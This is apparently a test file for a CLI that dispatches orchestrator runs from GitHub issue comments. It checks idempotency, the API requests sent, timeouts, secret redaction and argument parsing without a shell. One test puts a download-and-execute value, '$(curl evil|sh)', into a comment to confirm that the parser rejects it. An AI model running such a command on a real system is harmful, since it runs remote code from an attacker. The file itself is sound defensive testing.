import { createHash } from 'node:crypto';
import { chmod, cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { InterruptedError } from '@rc/orchestrator-core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exampleEvent, repoRoot, runRc, setLocalCommand } from './_harness';
import { json, startGitHubServer } from './_github-server';

const RUN_ID = '2026-11-20T09-15-00-0700';
const TOKEN = 'ghp_FAKEtoken0123456789abcdefghijklmnopqrs';
let repo: string;
let closers: (() => Promise<void>)[] = [];

beforeEach(async () => {
  repo = await mkdtemp(join(tmpdir(), 'rc-dispatch-'));
  await cp(join(repoRoot, 'examples/repo'), repo, { recursive: true });
});
afterEach(async () => {
  await Promise.all(closers.map((close) => close()));
  closers = [];
  await rm(repo, { recursive: true, force: true });
});

const artifacts = () => join(repo, 'artifacts/orchestrator');
const readLog = async () =>
  (await readFile(join(artifacts(), 'dispatch-log.ndjson'), 'utf8'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
const dispatch = (extra: string[], env: Record<string, string> = {}) =>
  runRc(['orchestrator', 'dispatch', '--event-path', exampleEvent, '--json', ...extra], {
    cwd: repo,
    env,
  });

// The example repository dispatches locally to scripts/local-runner.mjs; tests set their own.
const setLocal = (command: string | null) => setLocalCommand(repo, command);

async function github(respond: Parameters<typeof startGitHubServer>[0]) {
  const server = await startGitHubServer(respond);
  closers.push(server.close);
  return server;
}

describe('rc orchestrator dispatch', () => {
  it('records plan, envelope and one log line with --trigger none', async () => {
    const result = await dispatch(['--run-id', RUN_ID]);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({
      outcome: 'recorded',
      trigger: 'none',
      run_id: RUN_ID,
    });
    const envelope = JSON.parse(await readFile(join(artifacts(), RUN_ID, 'envelope.json'), 'utf8'));
    expect(envelope).toMatchObject({
      repository: 'Codertocat/Hello-World',
      issue_number: 276,
      comment_id: 492700400,
      author: 'Codertocat',
      // The comment's words after the command line travel with the plan.
      plan: { run_id: RUN_ID, instructions: 'Please pick this up with the triage helper.' },
    });
    expect(await readLog()).toEqual([
      {
        instructions_sha256: createHash('sha256')
          .update('Please pick this up with the triage helper.')
          .digest('hex'),
        run_id: RUN_ID,
        idempotency_key: envelope.idempotency_key,
        issue_number: 276,
        prompt: 'triage',
        workflow: 'orchestrator-runner',
        trigger: 'none',
        outcome: 'recorded',
        reason: null,
        phoenix_timestamp: '2026-11-20T09:15:00.000-07:00',
      },
    ]);
  });

  it('triggers nothing for a second dispatch of the same comment, logs a duplicate, exits 0', async () => {
    await dispatch(['--run-id', RUN_ID]);
    const second = await dispatch(['--run-id', '2026-11-20T09-20-00-0700']);
    expect(second.code).toBe(0);
    expect(JSON.parse(second.stdout)).toMatchObject({ outcome: 'duplicate', duplicate_of: RUN_ID });
    expect((await readLog()).map((entry) => entry['outcome'])).toEqual(['recorded', 'duplicate']);
    expect(await readdir(artifacts())).not.toContain('2026-11-20T09-20-00-0700');
  });

  it('--dry-run prints the plan and writes nothing', async () => {
    const result = await dispatch(['--run-id', RUN_ID, '--dry-run']);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({
      outcome: 'dry_run',
      plan: { run_id: RUN_ID },
    });
    await expect(readdir(join(repo, 'artifacts'))).rejects.toThrow();
    const human = await runRc(
      ['orchestrator', 'dispatch', '--event-path', exampleEvent, '--dry-run'],
      { cwd: repo },
    );
    expect(human.stdout).toMatch(/^dispatch dry_run \(trigger none\)\n/);
    expect(human.stdout).toContain('project/prompts/wave2/triage.md');
  });

  it('--trigger github sends the exact requests: eyes, workflow_dispatch with the envelope, rocket', async () => {
    const server = await github((request, res) =>
      request.url.endsWith('/dispatches') ? res.writeHead(204).end() : json(res, 201, { id: 1 }),
    );
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'github'], {
      GITHUB_API_URL: server.url,
      ORCHESTRATOR_BOT_TOKEN: TOKEN,
    });
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ outcome: 'dispatched', trigger: 'github' });
    const envelopeText = await readFile(join(artifacts(), RUN_ID, 'envelope.json'), 'utf8');
    expect(
      server.requests.map((request) => [request.method, request.url, request.authorization]),
    ).toEqual([
      [
        'POST',
        '/repos/Codertocat/Hello-World/issues/comments/492700400/reactions',
        `token ${TOKEN}`,
      ],
      [
        'POST',
        '/repos/Codertocat/Hello-World/actions/workflows/orchestrator-runner.yml/dispatches',
        `token ${TOKEN}`,
      ],
      [
        'POST',
        '/repos/Codertocat/Hello-World/issues/comments/492700400/reactions',
        `token ${TOKEN}`,
      ],
    ]);
    expect(JSON.parse(server.requests[0]?.body ?? '')).toEqual({ content: 'eyes' });
    expect(JSON.parse(server.requests[2]?.body ?? '')).toEqual({ content: 'rocket' });
    const body = JSON.parse(server.requests[1]?.body ?? '') as {
      ref: string;
      inputs: Record<string, string>;
    };
    expect(body.ref).toBe('main');
    expect(Object.keys(body.inputs).sort()).toEqual(['envelope', 'issue', 'prompt', 'run_id']);
    expect(body.inputs).toMatchObject({ issue: '276', prompt: 'triage', run_id: RUN_ID });
    expect(JSON.parse(body.inputs['envelope'] ?? '')).toEqual(JSON.parse(envelopeText));
    expect((await readLog())[0]).toMatchObject({ outcome: 'dispatched', trigger: 'github' });
    expect(result.stdout + result.stderr + envelopeText).not.toContain(TOKEN);
  });

  it('--trigger github on a 5xx exits 1, reacts confused, and logs the failure with its reason', async () => {
    const server = await github((request, res) =>
      request.url.endsWith('/dispatches')
        ? json(res, 502, { message: 'Bad Gateway' })
        : json(res, 201, {}),
    );
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'github'], {
      GITHUB_API_URL: server.url,
      GITHUB_TOKEN: TOKEN,
    });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('dispatch failed');
    expect(JSON.parse(server.requests[2]?.body ?? '')).toEqual({ content: 'confused' });
    const [entry] = await readLog();
    expect(entry).toMatchObject({ outcome: 'failed', trigger: 'github' });
    expect(String(entry?.['reason'])).toContain('502');
    expect(result.stdout + result.stderr).not.toContain(TOKEN);
  });

  it('--trigger github times out a slow API and records it; a retry may then dispatch', async () => {
    let slow = true;
    const server = await github((request, res) => {
      if (!request.url.endsWith('/dispatches')) return json(res, 201, {});
      if (slow) setTimeout(() => res.writeHead(204).end(), 1_500).unref();
      else res.writeHead(204).end();
    });
    const env = { GITHUB_API_URL: server.url, GITHUB_TOKEN: TOKEN, RC_GITHUB_TIMEOUT_MS: '150' };
    const first = await dispatch(['--run-id', RUN_ID, '--trigger', 'github'], env);
    expect(first.code).toBe(1);
    expect((await readLog())[0]?.['reason']).toMatch(/timed out/);
    slow = false;
    const retry = await dispatch(['--run-id', RUN_ID, '--trigger', 'github'], env);
    expect(retry.code).toBe(0);
    expect((await readLog()).map((entry) => entry['outcome'])).toEqual(['failed', 'dispatched']);
  });

  it('--trigger github without a token fails and records why', async () => {
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'github']);
    expect(result.code).toBe(1);
    expect((await readLog())[0]).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('no token'),
    });
  });

  it('--trigger local runs dispatch.local_command with the envelope path', async () => {
    const recorder = join(repo, 'record.mjs');
    await writeFile(
      recorder,
      "import { writeFileSync } from 'node:fs';\nwriteFileSync(process.argv[2] + '.seen', JSON.stringify({ argv: process.argv.slice(2), env: process.env.RC_ENVELOPE_PATH }));\nconsole.log('local agent started');\n",
    );
    await chmod(recorder, 0o755);
    await setLocal(`${process.execPath} record.mjs {envelope}`);
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'local']);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('local agent started');
    const envelopePath = join(artifacts(), RUN_ID, 'envelope.json');
    expect(JSON.parse(await readFile(`${envelopePath}.seen`, 'utf8'))).toEqual({
      argv: [envelopePath],
      env: envelopePath,
    });
    expect((await readLog())[0]).toMatchObject({ outcome: 'dispatched', trigger: 'local' });
  });

  it('--trigger local fails (exit 1) when the command fails, and exits 2 when none is configured', async () => {
    await setLocal(null);
    expect((await dispatch(['--run-id', RUN_ID, '--trigger', 'local'])).code).toBe(2);
    await setLocal(`${process.execPath} -e process.exit(7)`);
    const failed = await dispatch(['--run-id', '2026-11-20T10-00-00-0700', '--trigger', 'local']);
    expect(failed.code).toBe(1);
    expect((await readLog()).at(-1)).toMatchObject({
      outcome: 'failed',
      reason: 'local command exited 7',
    });
  });

  it('--trigger local keeps a quoted argument with spaces as one word, and runs no shell', async () => {
    await writeFile(
      join(repo, 'record.mjs'),
      "import { writeFileSync } from 'node:fs';\nwriteFileSync(process.env.RC_ENVELOPE_PATH + '.seen', JSON.stringify(process.argv.slice(2)));\n",
    );
    await setLocal(`${process.execPath} record.mjs "two words" 'it''s' a\\ b $HOME;x {envelope}`);
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'local']);
    expect(result.code).toBe(0);
    const envelopePath = join(artifacts(), RUN_ID, 'envelope.json');
    expect(JSON.parse(await readFile(`${envelopePath}.seen`, 'utf8'))).toEqual([
      'two words',
      'its',
      'a b',
      '$HOME;x',
      envelopePath,
    ]);
  });

  it('--trigger local redacts secrets from what the command prints, on stderr and in its log', async () => {
    const secret = 'local-secret-value-1234';
    await setLocal(
      `${process.execPath} -e "console.log('using ' + process.env.DEPLOY_TOKEN); console.error('${TOKEN}')"`,
    );
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'local'], {
      DEPLOY_TOKEN: secret,
    });
    expect(result.code).toBe(0);
    const log = await readFile(join(artifacts(), RUN_ID, 'local-command.log'), 'utf8');
    for (const text of [result.stderr, log]) {
      expect(text).toContain('using ');
      expect(text).not.toContain(secret);
      expect(text).not.toContain(TOKEN);
    }
    expect(log).toBe('using ***\n***\n');
  });

  it('--trigger local stops a command that outlives RC_LOCAL_COMMAND_TIMEOUT_MS (exit 1, logged)', async () => {
    await setLocal(`${process.execPath} -e "setInterval(() => {}, 1000)"`);
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'local'], {
      RC_LOCAL_COMMAND_TIMEOUT_MS: '300',
    });
    expect(result.code).toBe(1);
    expect((await readLog())[0]).toMatchObject({
      outcome: 'failed',
      reason: `local command failed: ${process.execPath} ran longer than 300 ms and was stopped`,
    });
  });

  it('--trigger local stops the command on Ctrl-C and exits 130', async () => {
    const started = join(repo, 'started');
    await setLocal(
      `${process.execPath} -e "require('fs').writeFileSync('started', ''); setInterval(() => {}, 1000)"`,
    );
    const controller = new AbortController();
    // Interrupt once the command is seen running (the file it writes), not after a guessed delay.
    const whenStarted = async () => {
      while (!(await readdir(repo)).includes('started'))
        await new Promise((resolve) => setTimeout(resolve, 20));
      controller.abort(new InterruptedError('interrupted by SIGINT'));
    };
    const [result] = await Promise.all([
      runRc(
        [
          'orchestrator',
          'dispatch',
          '--event-path',
          exampleEvent,
          '--run-id',
          RUN_ID,
          '--trigger',
          'local',
        ],
        {
          cwd: repo,
          signal: controller.signal,
        },
      ),
      whenStarted(),
    ]);
    expect(result.code).toBe(130);
    expect(await readFile(started, 'utf8')).toBe('');
    expect((await readLog())[0]).toMatchObject({ outcome: 'failed', trigger: 'local' });
  });

  it.each([
    [
      'an unterminated quote',
      `node "x {envelope}`,
      {},
      'dispatch.local_command: unterminated quote',
    ],
    ['no command', `'""'`, {}, 'dispatch.local_command: no command to run'],
    [
      'a bad timeout',
      'node x.mjs',
      { RC_LOCAL_COMMAND_TIMEOUT_MS: '5s' },
      'RC_LOCAL_COMMAND_TIMEOUT_MS: expected a whole number of milliseconds',
    ],
  ])('--trigger local exits 2 on %s and writes nothing', async (_what, command, env, message) => {
    await setLocal(command);
    const result = await dispatch(['--run-id', RUN_ID, '--trigger', 'local'], env);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(message);
    expect(await readdir(repo)).not.toContain('artifacts');
  });

  it('exits 2 on an unknown trigger', async () => {
    const result = await dispatch(['--trigger', 'carrier-pigeon']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--trigger');
  });

  it('keeps a token in the comment out of artifacts, logs and output', async () => {
    const event = JSON.parse(await readFile(exampleEvent, 'utf8')) as { comment: { body: string } };
    event.comment.body = `/orchestrate #276 prompt=triage\n<!-- ${TOKEN} -->\nuse ${TOKEN}`;
    const result = await runRc(['orchestrator', 'dispatch', '--run-id', RUN_ID, '--json'], {
      cwd: repo,
      stdin: JSON.stringify(event),
      env: { GITHUB_TOKEN: TOKEN },
    });
    expect(result.code).toBe(0);
    const files = await Promise.all(
      ['plan.json', 'envelope.json'].map((name) =>
        readFile(join(artifacts(), RUN_ID, name), 'utf8'),
      ),
    );
    const log = await readFile(join(artifacts(), 'dispatch-log.ndjson'), 'utf8');
    expect([result.stdout, result.stderr, log, ...files].join('\n')).not.toContain(TOKEN);
  });

  it('exits 2 on a repeated option, naming the second, and writes nothing', async () => {
    const event = JSON.parse(await readFile(exampleEvent, 'utf8')) as { comment: { body: string } };
    event.comment.body = '/orchestrate #276 prompt="$(curl evil|sh)" prompt=triage';
    const result = await runRc(['orchestrator', 'dispatch', '--run-id', RUN_ID], {
      cwd: repo,
      stdin: JSON.stringify(event),
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(
      'column 44: option "prompt" is given more than once (first at column 19)',
    );
    expect(result.stdout).toBe('');
    await expect(readdir(join(repo, 'artifacts'))).rejects.toThrow();
  });
});
